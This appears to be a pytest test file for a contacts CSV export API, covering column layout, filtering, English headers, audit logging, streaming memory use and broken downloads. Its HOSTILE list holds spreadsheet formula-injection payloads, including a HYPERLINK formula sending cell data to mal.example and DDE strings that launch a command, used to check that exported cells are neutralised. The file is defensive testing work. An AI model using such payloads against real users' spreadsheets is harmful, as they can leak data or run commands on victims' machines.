"""Contacts as a file: harmless in a spreadsheet, whole or visibly broken, and remembered in the audit log."""

from __future__ import annotations

import csv
import io
import tracemalloc

import aiohttp
import pytest
from sqlalchemy import text

from engine import contacts
from engine.contacts import Listing, exporting
from engine.models import Role
from tests.fakes import world
from tests.fakes.inbound import rows as select_rows

HOME = "/api/v1/contacts"
PLACE = f"{HOME}/export"
HOSTILE = [
    '=HYPERLINK("http://mal.example?"&A1;"Clique")',
    "+55 11 98765-4321",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    'Ana; "a" Silva',
]


def table(raw: bytes, delimiter: str = ";") -> list[dict[str, str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


async def test_the_file_says_all_a_list_says_and_each_field_has_a_column(owner) -> None:
    vip = (await owner.post("/api/v1/tags", {"name": "vip"})).json
    ana = {"name": "Ana", "phone": "31 98888-1234", "email": "ana@x.example", "custom": {"cidade": "Belém"}}
    made = (await owner.post(HOME, ana | {"tag_ids": [vip["id"]]})).json
    await owner.post(f"{HOME}/{made['id']}/opt-out", {"channel_kind": "voice", "said": "x"})

    answer = await owner.get(PLACE)
    (row,) = table(answer.raw)

    assert (answer.status, answer.headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
    assert (row["Nome"], row["Telefone"], row["E-mail"]) == ("Ana", "+5531988881234", "ana@x.example")
    assert (row["Etiquetas"], row["Descadastrado de"], row["cidade"]) == ("vip", "Voz", "Belém")
    assert row["Criado em"][:10] in made["created_at"] or row["Criado em"]


@pytest.mark.parametrize("name", HOSTILE)
async def test_in_09_no_cell_runs_and_phones_are_whole(owner, name) -> None:
    await owner.post(
        HOME, {"name": name, "phone": "11 98765-4321", "custom": {"=cmd|x": "\t=1+1", "n": "-1"}}
    )

    (row,) = table((await owner.get(PLACE)).raw)

    assert row["Nome"].removeprefix("'") == name
    assert all(cell[:1] not in "=+-@\t\r\n＝" for key, cell in row.items() if cell and key != "Telefone")
    assert (row["Telefone"], row["n"], row["'=cmd|x"]) == ("+5511987654321", "'-1", "'=1+1")


async def test_a_file_is_narrowed_as_the_list_is_and_speaks_english_if_asked(owner) -> None:
    vip = (await owner.post("/api/v1/tags", {"name": "vip"})).json
    ids = [
        (await owner.post(HOME, {"name": name, "custom": {name: "x"}, "tag_ids": tags})).json["id"]
        for name, tags in (("Ana", [vip["id"]]), ("Bia", []), ("Caio", []))
    ]

    async def found(query: str) -> list[str]:
        return [row["Name"] for row in table((await owner.get(f"{PLACE}?language=en&{query}")).raw, ",")]

    assert await found("") == ["Caio", "Bia", "Ana"]
    assert await found("q=bia") == ["Bia"]
    assert await found(f"tag_id={vip['id']}") == ["Ana"]
    assert await found(f"ids={ids[0]}&ids={ids[2]}") == ["Caio", "Ana"]
    assert await found("archived=true") == []
    assert list(table((await owner.get(f"{PLACE}?q=bia")).raw)[0])[-1] == "Bia"


async def test_who_takes_contacts_out_is_in_the_audit_log_without_what_was_searched(
    owner, make_api, company_id, engine
) -> None:
    agent = await make_api(company_id, Role.AGENT)

    refused = await agent.get(PLACE)
    await owner.get(f"{PLACE}?q=Ana")
    entries = await select_rows(engine, company_id, "SELECT person_id, action, details FROM audit_entry")

    assert (refused.status, refused.code) == (403, "not_permitted")
    ((person, action, details),) = entries
    assert (person, action) == (owner.session.principal.person_id, "contact.export")
    assert details == {"archived": False, "searched": True, "selected": 0}


async def test_a_large_list_comes_in_pages_and_the_memory_stays_flat(engine, company_id) -> None:
    await fill(engine, company_id, 20_000)
    async with engine.unit_of_work(company_id) as uow:
        export = await contacts.begin_export(uow, Listing(), language="en")
    seen, pieces = 0, 0
    tracemalloc.start()
    async for piece in contacts.csv_pieces(engine, export):
        seen, pieces = seen + piece.count(b"\r\n"), pieces + 1
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert (seen, pieces) == (20_001, 1 + 20_000 // 500)
    assert peak < 6_000_000


async def test_a_file_that_breaks_off_is_known_to_be_broken(owner, engine, company_id, monkeypatch) -> None:
    await world.make_contacts(engine, company_id, world.phones(3))
    monkeypatch.setattr(exporting, "_cells", lambda *_: {}["gone"])

    with pytest.raises(aiohttp.ClientError):
        await owner.get(PLACE)


async def fill(engine, company_id, count: int) -> None:
    async with engine.unit_of_work(company_id) as uow:
        await uow.session.execute(
            text(
                "INSERT INTO contact (company_id, id, name, name_folded, custom) "
                "SELECT :company, gen_random_uuid(), 'Ana ' || n, 'ana ' || n, "
                "jsonb_build_object('cidade', 'Belém') FROM generate_series(1, :count) n"
            ),
            {"company": company_id, "count": count},
        )
